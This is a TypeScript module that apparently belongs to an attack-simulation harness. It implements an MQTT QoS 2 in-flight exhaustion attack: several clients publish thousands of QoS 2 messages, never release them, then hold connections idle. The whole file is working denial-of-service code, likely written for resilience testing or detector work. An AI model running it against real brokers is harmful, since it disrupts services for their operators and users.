// QoS 2 exhaustion: messages that are never released.

import type { Attack } from '../attacker.js'
import { connectPacket, publishPacket } from '../packets.js'
import { TOPIC_WORDS } from './words.js'

/** Publishes at QoS 2 and never sends PUBREL. */
export const qos2Exhaustion: Attack = {
  name: 'qos2-exhaustion',
  summary:
    'QoS 2 in-flight exhaustion: 3 to 5 addresses publish at QoS 2, each message with a new packet identifier, and never send PUBREL, 100 a second each, up to 2,500',
  attackers: [3, 5],
  async run(attacker) {
    const { random } = attacker
    const clientId = random.text(14)
    const topic = `${random.oneOf(TOPIC_WORDS)}/${random.oneOf(TOPIC_WORDS)}`
    let id = 0
    while (id < 2_500 && !attacker.over) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(socket, connectPacket({ clientId, clean: false, keepalive: 0 }))
      while (id < 2_500 && !socket.destroyed) {
        const payload = random.text(random.integer(2, 40))
        attacker.logMessage(clientId, topic, payload)
        if (!(await attacker.send(socket, publishPacket(topic, payload, { qos: 2, id: ++id })))) break
        await attacker.pause(random.between(5, 15))
      }
      await attacker.pause(1_000)
    }
    await attacker.pause(3_600_000)
  }
}
